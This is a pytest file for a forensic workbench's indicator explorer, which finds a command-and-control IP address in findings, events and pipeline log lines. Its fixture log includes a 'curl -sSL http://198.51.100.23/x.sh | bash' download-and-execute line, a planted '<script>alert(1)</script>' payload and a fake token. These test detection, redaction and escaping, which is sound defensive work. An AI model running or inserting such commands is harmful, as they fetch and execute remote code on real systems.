"""The indicator explorer on real runs: the bundled tampered-weights case (its C2 address is in findings, events and
log lines) and a small case made here (a line only the search of the file finds, a longer address that must not
count, a planted ``<script>``, terminal escapes, a secret); the search's cap and budget; the widget and its export
(no browser here; tests/browser/ drives it in JupyterLab)."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from workbench.conclusions.record import Indicator
from workbench.evidence.pipeline_log import LogBudget
from workbench.explore.common import Explorer
from workbench.explore.indicators import (
    EVENT_COLUMNS,
    FINDING_COLUMNS,
    HIT_COLUMNS,
    LINE_COLUMNS,
    combined_hits,
    hits_html,
    indicator_explorer,
    indicator_hits,
    mentions,
)
from workbench.investigation import Investigation
from workbench.records import Event, Severity

SAMPLES = Path(__file__).resolve().parents[2] / "evidence-samples"
C2 = "203.0.113.7"
IP = "198.51.100.23"
#: lines of the small case's log: (line number, text); line 8 is far from every rule match (only the search finds
#: it), line 11 holds a longer address, line 12 a planted tag, line 13 a secret the search must redact
SMALL_LOG = [
    "2026-05-01T10:00:00.0000000Z ##[group]Run setup",
    "2026-05-01T10:00:01.0000000Z echo preparing",
    f"2026-05-01T10:00:02.0000000Z curl -sSL http://{IP}/x.sh | bash",
    "2026-05-01T10:00:03.0000000Z done",
    "2026-05-01T10:00:04.0000000Z step two",
    "2026-05-01T10:00:05.0000000Z step three",
    "2026-05-01T10:00:06.0000000Z step four",
    f"2026-05-01T10:00:07.0000000Z \x1b[32mconnected to {IP}:8443\x1b[0m",
    "2026-05-01T10:00:08.0000000Z step six",
    "2026-05-01T10:00:09.0000000Z step seven",
    f"2026-05-01T10:00:10.0000000Z unrelated host {IP}0 answered",
    f"2026-05-01T10:00:11.0000000Z banner from {IP}: <script>alert(1)</script>",
    "2026-05-01T10:00:12.0000000Z step eight",
    "2026-05-01T10:00:13.0000000Z step nine",
    f"2026-05-01T10:00:14.0000000Z ping {IP} token=hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "2026-05-01T10:00:15.0000000Z the end",
]


@pytest.fixture(scope="module")
def tampered(tmp_path_factory):
    return Investigation.open(SAMPLES / "tampered-weights", tmp_path_factory.mktemp("out"), write=False)


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    case = tmp_path_factory.mktemp("small-case")
    (case / "logs").mkdir()
    (case / "logs" / "pipeline.log").write_text("\n".join(SMALL_LOG) + "\n", encoding="utf-8")
    return Investigation.open(case, tmp_path_factory.mktemp("small-out"), write=False)


def _indicator(inv, kind, value=None):
    return next(i for i in inv.conclusions.indicators if i.kind == kind and (value is None or i.value == value))


def _absent(value: str) -> Indicator:
    return Indicator("ip", value, None, ())


def test_mentions_needs_no_letter_or_digit_glued_to_the_value():
    rx = mentions("203.0.113.7")
    assert rx.search("curl http://203.0.113.7/p.sh") and rx.search("peer=203.0.113.7:4444")
    assert not rx.search("203.0.113.70") and not rx.search("1203.0.113.7") and not rx.search("203.0.113[.]7")
    assert mentions("Transformers==4.38.1").search("pip install transformers==4.38.1 ok")
    assert not mentions("a.b").search("aXb")  # the value is literal, not a pattern


def test_the_c2_address_is_found_in_findings_events_and_log_lines(tampered):
    ip = _indicator(tampered, "ip", C2)
    hits = indicator_hits(tampered, ip)
    findings, events, lines = hits["findings"], hits["events"], hits["lines"]
    assert list(findings.columns) == FINDING_COLUMNS and list(events.columns) == EVENT_COLUMNS
    assert list(lines.columns) == LINE_COLUMNS
    assert set(ip.findings) <= set(findings["id"])
    mentioning = {f.id for f in tampered.findings if C2 in f"{f.title} {f.detail} {f.evidence}"}
    assert set(findings["id"]) == set(ip.findings) | mentioning
    assert set(findings.loc[findings["why"] == "mentions it", "id"]) == mentioning - set(ip.findings) != set()
    cited = zip(events["message"], events["ref"], strict=True)
    assert len(events) >= 10 and all(C2 in m or r in ip.findings for m, r in cited)
    assert list(events["time"]) == sorted(events["time"])
    raw = (SAMPLES / "tampered-weights" / "logs" / "pipeline.log").read_text(encoding="utf-8").splitlines()
    expected = [n for n, line in enumerate(raw, 1) if C2 in line and f"{C2}0" not in line]
    assert lines["path"].eq("logs/pipeline.log").all() and list(lines["line"]) == expected
    assert lines.set_index("line").loc[94, "rule_id"] == "exec.remote-script-to-shell"
    assert all(C2 in t and "\x1b" not in t for t in lines["text"]) and lines.attrs["notes"] == []


def test_an_indicator_in_no_record_finds_nothing(tampered, small):
    for inv in (tampered, small):
        hits = indicator_hits(inv, _absent("192.0.2.99"))
        assert all(frame.empty for frame in hits.values())
        assert combined_hits(hits).empty and list(combined_hits(hits).columns) == HIT_COLUMNS
    assert list(indicator_hits(small, _absent(f"{IP}0"))["lines"]["line"]) == [11]  # the longer address alone


def test_the_small_case_lines_by_rule_context_and_search(small):
    ip = _indicator(small, "ip", IP)
    lines = indicator_hits(small, ip)["lines"].set_index("line")
    assert list(lines.index) == [3, 8, 12, 15]  # 11 holds a longer address
    assert lines.loc[3, "rule_id"] == "exec.remote-script-to-shell"
    assert lines.loc[8, "rule_id"] == "" and lines.loc[8, "text"].endswith(f"connected to {IP}:8443")  # no escapes
    assert "<script>alert(1)</script>" in lines.loc[12, "text"]  # kept as text; the pane escapes it
    assert "hf_AbCdEfGh" not in lines.loc[15, "text"] and "[redacted]" in lines.loc[15, "text"]


def test_lines_only_the_search_finds_are_redacted_and_cleaned(small):
    logs = small.results["logs"]
    bare = replace(small, results={**small.results, "logs": replace(logs, data={})})  # no scanner matches
    lines = indicator_hits(bare, _indicator(small, "ip", IP))["lines"].set_index("line")
    assert list(lines.index) == [3, 8, 12, 15] and set(lines["rule_id"]) == {""}
    assert "hf_AbCdEfGh" not in lines.loc[15, "text"] and "[redacted]" in lines.loc[15, "text"]
    assert "\x1b" not in lines.loc[8, "text"] and "[32m" not in lines.loc[8, "text"]


def test_the_search_is_capped_and_budgeted(small):
    ip = _indicator(small, "ip", IP)
    capped = indicator_hits(small, ip, max_lines=2)["lines"]
    assert len(capped) == 2 and any("2 lines" in n for n in capped.attrs["notes"])
    starved = indicator_hits(small, _absent("step"), budget=LogBudget(file_bytes=200))["lines"]
    # "step two" is within the first 200 bytes, "step three" is not; 13 and 14 are the scanner's context of line 15
    assert list(starved["line"]) == [5, 13, 14]
    assert any("stopped after 200 bytes" in n for n in starved.attrs["notes"]), starved.attrs["notes"]


def test_events_whose_extra_mentions_it_are_found(small):
    planted = Event(datetime(2026, 5, 1, 10, 30, tzinfo=UTC), "network.txt", "host:conn", "outbound connection",
                    Severity.HIGH, extra={"peer": f"{IP}:443", "line": 4})  # fmt: skip
    inv = replace(small, events=[*small.events, planted])
    events = indicator_hits(inv, _absent(IP))["events"]
    assert "outbound connection" in set(events["message"]) and events.iloc[-1]["lane"] == "Host"


def test_a_credential_has_its_findings_and_events_but_no_text_search(small):
    cred = _indicator(small, "credential")
    hits = indicator_hits(small, cred)
    assert list(hits["findings"]["id"]) == list(cred.findings) and set(hits["findings"]["why"]) == {
        "cited by the indicator"
    }
    assert len(hits["events"]) >= 1 and set(hits["events"]["ref"]) == set(cred.findings)
    assert hits["lines"].empty and "no text searched" in hits["lines"].attrs["notes"][0]


def test_combined_hits_has_one_row_per_hit_with_its_kind(tampered):
    hits = indicator_hits(tampered, _indicator(tampered, "ip", C2))
    both = combined_hits(hits)
    assert list(both.columns) == HIT_COLUMNS
    counts = both["kind"].value_counts().to_dict()
    assert counts == {"finding": len(hits["findings"]), "event": len(hits["events"]), "log line": len(hits["lines"])}
    assert list(both.loc[both["kind"] == "log line", "line"]) == list(hits["lines"]["line"])


def test_the_pane_is_escaped_and_defanged(small):
    ip = _indicator(small, "ip", IP)
    html = hits_html(ip, indicator_hits(small, ip)).replace("<wbr>", "")
    assert "ip: 198.51.100[.]23" in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>" not in html
    assert "<h4>Findings (" in html and "<h4>Timeline events (" in html and "<h4>Log lines (4)</h4>" in html


def test_picking_an_indicator_changes_the_pane_and_the_export(tampered):
    ex = indicator_explorer(tampered)
    assert isinstance(ex, Explorer)
    select, pane = ex["select"], ex["hits"]
    assert "wb-indicator-select" in select._dom_classes and "wb-indicator-hits" in pane._dom_classes
    labels = [label for label, _ in select.options]
    assert labels[0] == "ip: 203.0.113[.]7" and len(labels) == len(tampered.conclusions.indicators)
    first = pane.value
    assert "<h4>Log lines (7)</h4>" in first
    sha = next(n for n, i in enumerate(tampered.conclusions.indicators) if i.kind == "sha256")
    select.value = sha
    assert pane.value != first and "<h4>Log lines (0)</h4>" in pane.value
    assert set(ex["found"]) == {0, sha}  # each found once, when first picked
    select.value = 0
    ex["export"].children[1].click()  # JSON
    (written,) = sorted((tampered.out_dir / "exports").glob("indicator-*.json"))
    rows = json.loads(written.read_text(encoding="utf-8"))
    assert {r["kind"] for r in rows} == {"finding", "event", "log line"}
    assert len(rows) == len(combined_hits(ex["found"][0]))
    assert ex._repr_mimebundle_()["text/html"] == pane.value


def test_a_case_without_indicators(tmp_path):
    case = tmp_path / "case"
    (case / "logs").mkdir(parents=True)
    (case / "logs" / "pipeline.log").write_text("2026-05-01T10:00:00Z all good\n", encoding="utf-8")
    inv = Investigation.open(case, tmp_path / "out", write=False)
    assert inv.conclusions.indicators == ()
    ex = indicator_explorer(inv)
    assert ex["select"].disabled and "no indicator" in ex["hits"].value
    ex["export"].children[0].click()
    (written,) = (tmp_path / "out" / "exports").glob("indicator-*.csv")
    assert list(pd.read_csv(written).columns) == HIT_COLUMNS
